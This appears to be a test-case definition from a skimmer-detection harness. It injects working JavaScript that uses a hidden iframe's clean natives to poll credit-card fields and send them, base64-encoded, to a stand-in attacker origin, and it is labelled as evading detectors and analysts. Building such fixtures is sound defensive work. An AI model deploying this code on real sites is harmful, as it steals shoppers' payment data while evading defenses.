import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'pristine-realm-polling',
  why: 'Reads fields a few times a second with the natives of a fresh frame, which no hook of the page has touched (timers: 36 of 88 samples).',
  covers: ['reading: polling', 'hard: hides from analysts', 'evade: detectors'],
  base: 'direct',
  install: (site) =>
    site.append(js`(function () {
  var frame = document.createElement('iframe');
  frame.style.display = 'none';
  document.documentElement.append(frame);
  var w = frame.contentWindow, read = Object.getOwnPropertyDescriptor(w.HTMLInputElement.prototype, 'value').get, last = '';
  w.setInterval(function () {
    var values = Array.from(document.querySelectorAll('[autocomplete^=cc-]'), function (i) { return read.call(i); }), now = values.join('|');
    if (now === last && values[0].length > 13 && values[2].length > 2 && !w.done) { w.done = 1; new w.Image().src = '${site.origins.evil}/q.gif?d=' + w.encodeURIComponent(w.btoa(unescape(w.encodeURIComponent(now)))); }
    last = now;
  }, 120);
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
